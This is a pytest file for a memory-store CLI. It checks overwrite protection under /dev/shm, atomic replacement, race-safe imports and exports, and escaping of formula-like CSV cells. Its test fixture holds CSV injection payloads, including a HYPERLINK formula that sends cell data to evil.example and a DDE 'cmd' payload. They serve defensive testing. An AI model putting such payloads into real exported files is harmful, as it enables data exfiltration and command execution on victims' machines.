"""Where `hypermem` writes, walk 71 (security): a regular file under /dev (/dev/shm) gets the
overwrite rule and the atomic write like any file; only pipes, devices and names of an open
descriptor (/dev/stdout) stream.  CSV export writes formula-like cells as text (OWASP) unless
--raw-csv.  import --durable to a new name never replaces a file made while it ran."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from test_cli_walk_outputs import run

from hypermem import Memory
from hypermem.cli.outputs import is_stream, names_descriptor
from hypermem.cli.store_commands import csv_cell

SHM = Path("/dev/shm")
HOSTILE = {"a": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)": "+cmd|' /C calc'!A0",
           "-2+3": "plain", "-2": "\tstarts with a tab", "b": "\rstarts with a CR", "c": "-1.5e3"}


@pytest.fixture
def store(tmp_path):
    mem = Memory()
    mem.add("pets", id="pets")
    mem.add("Rex, a dog", id="rex", parent="pets")
    path = tmp_path / "m.db"
    mem.save(path)
    return path


@pytest.fixture
def shm_file():
    if not SHM.is_dir() or not os.access(SHM, os.W_OK):
        pytest.skip("no writable /dev/shm")
    fd, name = tempfile.mkstemp(dir=SHM, prefix="hypermem-test-", suffix=".txt")
    os.write(fd, b"precious notes\n")
    os.close(fd)
    yield Path(name)
    Path(name).unlink(missing_ok=True)


def test_a_regular_file_under_dev_is_no_stream(shm_file, tmp_path):
    assert not is_stream(str(shm_file))
    assert is_stream("-") and is_stream("/dev/null") and is_stream("/dev/stdout")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    assert is_stream(str(fifo)) and not is_stream(str(tmp_path)) and not is_stream(str(tmp_path / "new.csv"))
    link = tmp_path / "out.csv"
    link.symlink_to("/dev/stdout")   # a link to the descriptor's name streams, whatever fd 1 is
    assert names_descriptor(str(link)) and names_descriptor("/proc/self/fd/1")
    assert not names_descriptor(str(shm_file)) and not names_descriptor("/dev/shm/x")


@pytest.mark.parametrize("argv", [("export", "{m}", "{out}", "--format", "csv"), ("inspect", "{m}", "-o", "{out}")])
def test_an_existing_file_in_dev_shm_is_not_overwritten_without_force(store, shm_file, capsys, argv):
    argv = [a.format(m=store, out=shm_file) for a in argv]
    code, _, err = run(capsys, *argv)
    assert code == 1 and "exists" in err and "pass --force" in err, err
    assert shm_file.read_text() == "precious notes\n"
    inode = shm_file.stat().st_ino
    code, out, err = run(capsys, *argv, "--force")
    assert code == 0 and f"wrote {shm_file}" in out, err   # a file, not a stream: the line goes to stdout
    assert shm_file.read_text() != "precious notes\n"
    assert shm_file.stat().st_ino != inode   # replaced atomically (a new file moved there), not rewritten in place


def test_dev_stdout_into_an_existing_file_still_streams(store, tmp_path):
    """`export m.db /dev/stdout > existing.csv`: the shell opened the file, the command writes into it."""
    out = tmp_path / "existing.csv"
    out.write_text("old\n")
    with open(out, "w") as f:
        got = subprocess.run([sys.executable, "-m", "hypermem.cli", "export", str(store), "/dev/stdout", "--format",
                              "csv"], stdout=f, stderr=subprocess.PIPE, text=True, timeout=120)
    assert got.returncode == 0 and "wrote /dev/stdout" in got.stderr, got.stderr
    assert out.read_text().startswith("id,text,parent") and "Rex, a dog" in out.read_text()


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return {r["id"]: r for r in csv.DictReader(f)}


def test_csv_export_writes_formula_cells_as_text_unless_raw(tmp_path, capsys):
    items = tmp_path / "items.jsonl"
    items.write_text("".join(json.dumps({"id": i, "text": t, "meta": {"n": -2}}) + "\n" for i, t in HOSTILE.items()))
    assert run(capsys, "import", items, tmp_path / "m.db")[0] == 0
    code, _, err = run(capsys, "export", tmp_path / "m.db", tmp_path / "safe.csv")
    assert code == 0, err
    safe = _rows(tmp_path / "safe.csv")
    assert set(safe) == {"a", "'@SUM(1+1)", "'-2+3", "-2", "b", "c"}   # -2 is a number: kept
    assert safe["a"]["text"] == "'" + HOSTILE["a"] and safe["'@SUM(1+1)"]["text"] == "'+cmd|' /C calc'!A0"
    assert safe["-2"]["text"] == "'\tstarts with a tab" and safe["b"]["text"] == "'\rstarts with a CR"
    assert safe["c"]["text"] == "-1.5e3" and safe["a"]["meta"] == '{"n": -2}'
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for r in safe.values() for cell in r.values())
    code, _, err = run(capsys, "export", tmp_path / "m.db", tmp_path / "raw.csv", "--raw-csv")
    assert code == 0, err
    raw = _rows(tmp_path / "raw.csv")
    assert {i: r["text"] for i, r in raw.items()} == HOSTILE   # exactly as stored
    code, out, err = run(capsys, "export", tmp_path / "m.db", "-", "--format", "json", "--raw-csv")
    assert code == 0 and err.startswith("warning: --raw-csv applies to CSV only"), err
    assert {r["id"] for r in json.loads(out)["records"]} == set(HOSTILE)


@pytest.mark.parametrize("value, cell", [("=1+1", "'=1+1"), ("+1", "+1"), ("-2", "-2"), ("-2.5", "-2.5"),
                                         ("-.5e-3", "-.5e-3"), ("-inf", "'-inf"), ("-2+3", "'-2+3"),
                                         ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r", "'\r"), ("", ""),
                                         (" =1", " =1"), ("a=1", "a=1"), (-2.0, -2.0), (None, None)])
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_durable_import_never_replaces_a_file_made_while_it_ran(tmp_path, capsys, monkeypatch):
    from hypermem.integrations import snapshots

    (tmp_path / "a.jsonl").write_text('{"text": "a", "id": "x"}\n')
    out = tmp_path / "agent.db"
    copy = snapshots.durable_copy

    def other_process_writes_first(memory, target):
        out.write_text("another process's file")
        return copy(memory, target)

    monkeypatch.setattr(snapshots, "durable_copy", other_process_writes_first)
    code, _, err = run(capsys, "import", tmp_path / "a.jsonl", out, "--durable")
    assert code == 1 and "was created by another process while this command ran" in err, err
    assert out.read_text() == "another process's file"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.jsonl", "agent.db"]   # no temporary file left
    monkeypatch.setattr(snapshots, "durable_copy", copy)
    code, _, err = run(capsys, "import", tmp_path / "a.jsonl", tmp_path / "new.db", "--durable")
    assert code == 0 and Memory.open(tmp_path / "new.db").ids == ["x"], err


def test_export_csv_escape_is_unchanged_for_ordinary_cells(store, capsys):
    code, out, err = run(capsys, "export", store, "-", "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["id"] for r in rows] == ["pets", "rex"] and rows[1]["parent"] == "pets"


def test_export_to_a_new_name_never_replaces_a_file_made_while_it_ran(store, tmp_path, capsys, monkeypatch):
    from hypermem.cli import store_commands

    out = tmp_path / "notes.csv"
    chunks = store_commands.csv_chunks

    def other_process_writes_first(*args, **kwargs):
        out.write_text("another process's file")
        yield from chunks(*args, **kwargs)

    monkeypatch.setattr(store_commands, "csv_chunks", other_process_writes_first)
    before = sorted(p.name for p in tmp_path.iterdir())
    code, _, err = run(capsys, "export", store, out, "--format", "csv")
    assert code == 1 and "was created by another process while this command ran" in err, err
    assert out.read_text() == "another process's file"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*before, "notes.csv"])   # no temporary file left
    monkeypatch.setattr(store_commands, "csv_chunks", chunks)
    code, _, err = run(capsys, "export", store, tmp_path / "fresh.csv", "--format", "csv")
    assert code == 0 and (tmp_path / "fresh.csv").read_text().startswith("id,"), err
